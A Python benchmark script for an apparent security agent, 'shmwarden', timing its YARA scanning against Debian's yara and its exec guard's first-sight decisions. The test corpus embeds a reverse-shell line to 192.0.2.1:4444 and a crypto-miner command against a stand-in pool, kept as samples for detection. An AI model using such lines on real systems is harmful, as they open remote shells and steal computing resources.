"""YARA benchmark: scan throughput against Debian's yara, and the guard's first-sight decision.
See scripts/bench-yara."""

import argparse
import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time


def mount_tmpfs(prefix, size="1g"):
    path = tempfile.mkdtemp(prefix=prefix, dir="/tmp")
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", path], check=True)
    return path


def unmount(path):
    subprocess.run(["umount", "-l", path], check=False)
    shutil.rmtree(path, ignore_errors=True)


def percentile(values, p):
    ordered = sorted(values)
    if not ordered:
        return float("nan")
    index = min(len(ordered) - 1, max(0, int(round(p / 100 * (len(ordered) - 1)))))
    return ordered[index]


def corpus(directory, count):
    """`count` files of what lands on tmpfs: ELFs from /usr/bin, scripts, and random data
    (1 KiB to 4 MiB); returns their total bytes."""
    rng = random.Random(7)
    elves = [os.path.join("/usr/bin", n) for n in sorted(os.listdir("/usr/bin"))]
    elves = [p for p in elves if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 4096][:400]
    samples = [
        b"#!/bin/sh\n./kworker -o stratum+tcp://pool.example.org:3333 -u wallet\n",
        b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    ]
    total = 0
    for i in range(count):
        kind = i % 4
        if i % 40 == 5:
            data = samples[(i // 40) % 2]
        elif kind in (0, 1):
            with open(elves[(i * 7) % len(elves)], "rb") as f:
                data = f.read()
        elif kind == 2:
            data = ("#!/bin/sh\n" + "".join(f"echo line {j} of a provisioning script\n" for j in range(rng.randint(10, 4000)))).encode()
        else:
            data = rng.randbytes(rng.randint(1 << 10, 4 << 20))
        path = os.path.join(directory, f"f{i:05d}")
        with open(path, "wb") as f:
            f.write(data)
        total += len(data)
    return total


def generated_rules(path, count):
    """`count` rules in the style of a community set: text and hex strings, a regex each fifth."""
    rng = random.Random(11)
    words = ["mimikatz", "beacon", "payload", "dropper", "inject", "keylog", "exfil", "crypt", "loader", "stager"]
    texts = []
    with open(path, "w") as f:
        for i in range(count):
            a = rng.choice(words) + f"_{rng.randrange(1 << 30):x}"
            texts.append(a)
            b = " ".join(f"{rng.randrange(256):02X}" for _ in range(8))
            f.write(f'rule generated_{i} : bench\n{{\n  meta:\n    description = "generated rule {i}"\n'
                    f'  strings:\n    $a = "{a}" ascii wide\n    $b = {{ {b} }}\n')
            if i % 5 == 0:
                f.write(f'    $c = /{rng.choice(words)}[0-9]{{4,8}}\\.(so|bin)/\n')
            f.write("  condition:\n    any of them\n}\n\n")
    return texts


def timed(command):
    start = time.perf_counter()
    result = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    elapsed = time.perf_counter() - start
    if result.returncode != 0:
        raise SystemExit(f"{command[0]} failed: {result.stderr.strip()[:400]}")
    return elapsed, result.stdout


def throughput(binary, rules, directory, total, rounds):
    """`yara -r`, `shmwarden scan --yara` (files mapped by libyara, as yara does), and the same
    with each file read and SHA-256-checked as the agent reads a capture; rounds interleaved."""
    yara = ["yara", "-r", "-w", rules, directory]
    ours = [binary, "scan", "--yara", "--rules", rules, "--json", directory]
    captured = ours[:3] + ["--as-captured"] + ours[3:]
    for command in (yara, ours, captured):  # warm the page cache and each program once
        timed(command)
    times = {"yara": [], "shmwarden": [], "as_captured": []}
    outputs = {}
    for _ in range(rounds):
        for name, command in (("yara", yara), ("shmwarden", ours), ("as_captured", captured)):
            t, outputs[name] = timed(command)
            times[name].append(t)
    yara_matches = sorted(set(line.split()[1] for line in outputs["yara"].splitlines() if line.strip()))
    ours_matches = sorted(set(f["path"] for f in json.loads(outputs["shmwarden"]) if f["verdict"]["matched"]))
    captured_matches = sorted(set(f["path"] for f in json.loads(outputs["as_captured"]) if f["verdict"]["matched"]))
    y, o, c = (percentile(times[name], 50) for name in ("yara", "shmwarden", "as_captured"))
    return {"yara_s": y, "shmwarden_s": o, "as_captured_s": c, "yara_mib_s": total / y / 2**20,
            "shmwarden_mib_s": total / o / 2**20, "as_captured_mib_s": total / c / 2**20,
            "ratio": y / o, "as_captured_ratio": y / c, "rounds": rounds,
            "same_matches": yara_matches == ours_matches == captured_matches, "matched_files": len(ours_matches)}


def guard_first_sight(binary, rules, count, settle):
    """`settle`: the execs come 2 s after the drops (the sensor captured and scanned each file
    first, and the guard takes that verdict); otherwise each file is run the moment it is
    written, and the guard hashes and scans it itself."""
    mount = mount_tmpfs("shmwarden-bench-yara-guard-", "512m")
    state = tempfile.mkdtemp(prefix="shmwarden-bench-yara-state-", dir="/var/tmp")
    try:
        policy = os.path.join(state, "policy.yaml")
        with open(policy, "w") as f:
            f.write("mode: monitor\nguard: {mode: monitor, deadline: 100ms, yara: {tags: [packer]}}\n")
        log_path = os.path.join(state, "agent.log")
        log = open(log_path, "w")
        agent = subprocess.Popen(
            [binary, "run", "--no-discover", "--watch", mount, "--no-listen", "--policy", policy,
             "--state-dir", os.path.join(state, "db"), "--yara-rules", rules],
            stderr=log, stdout=subprocess.DEVNULL)
        deadline = time.time() + 30
        while time.time() < deadline and "exec guard" not in open(log_path).read():
            time.sleep(0.05)
        with open("/bin/true", "rb") as f:
            true_bytes = f.read()
        padding = (1 << 20) - len(true_bytes) - 8
        def write(i):
            path = os.path.join(mount, f"elf-{i}")
            with open(path, "wb") as f:
                f.write(true_bytes + random.Random(i).randbytes(padding) + i.to_bytes(8, "little"))
            os.chmod(path, 0o755)
            return path

        def run(path):
            for _ in range(100):
                try:
                    pid = os.posix_spawn(path, [path], {})
                    break
                except OSError:  # ETXTBSY: the sensor's pinned descriptor is read-only; retried all the same
                    time.sleep(0.001)
            os.waitpid(pid, 0)

        if settle:
            paths = [write(i) for i in range(count)]
            time.sleep(2.0)  # the sensor's own captures and scans of the drops go first
            for path in paths:
                run(path)
        else:
            for i in range(count):
                run(write(i))
        time.sleep(1.0)
        out = subprocess.run([binary, "execs", "--json", "--state-dir", os.path.join(state, "db")],
                             check=True, capture_output=True, text=True).stdout
        agent.terminate()
        agent.wait(timeout=30)
        records = [r for r in json.loads(out) if "/elf-" in r["path"] and not r["cached"]]
        with sqlite3.connect(os.path.join(state, "db", "shmwarden.sqlite")) as db:
            verdicts = db.execute("SELECT count(*) FROM yara_scan").fetchone()[0]
        decisions = [r["decisionMicroseconds"] for r in records]
        return {"p50_us": percentile(decisions, 50), "p99_us": percentile(decisions, 99),
                "max_us": max(decisions, default=float("nan")), "execs": len(decisions),
                "failures": sum(1 for r in records if r["rule"] == "failure"), "verdicts_stored": verdicts}
    finally:
        unmount(mount)
        shutil.rmtree(state, ignore_errors=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--binary", required=True)
    parser.add_argument("--quick", action="store_true")
    args = parser.parse_args()
    binary = os.path.abspath(args.binary)
    rounds, files, execs = (3, 400, 100) if args.quick else (7, 1200, 300)
    shipped = os.path.abspath("Rules/yara/shmwarden.yar")
    results = {}
    directory = mount_tmpfs("shmwarden-bench-yara-files-", "2g")
    work = tempfile.mkdtemp(prefix="shmwarden-bench-yara-", dir="/var/tmp")
    try:
        total = corpus(directory, files)
        results["corpus"] = {"files": files, "mib": total / 2**20}
        results["shipped_rules"] = throughput(binary, shipped, directory, total, rounds)
        generated = os.path.join(work, "generated.yar")
        texts = generated_rules(generated, 500)
        # Ten files carry one of the generated rules' strings, so both tools have matches to agree on.
        names = sorted(os.listdir(directory))
        for n in range(10):
            with open(os.path.join(directory, names[n * 37 % len(names)]), "ab") as f:
                f.write(texts[n * 41 % len(texts)].encode())
        results["generated_500_rules"] = throughput(binary, generated, directory, total, rounds)
    finally:
        unmount(directory)
        shutil.rmtree(work, ignore_errors=True)
    results["guard_first_sight_1mib_scanned_at_capture"] = guard_first_sight(binary, shipped, execs, settle=True)
    results["guard_first_sight_1mib_run_at_once"] = guard_first_sight(binary, shipped, execs, settle=False)
    print(json.dumps(results, indent=2))


if __name__ == "__main__":
    sys.exit(main())
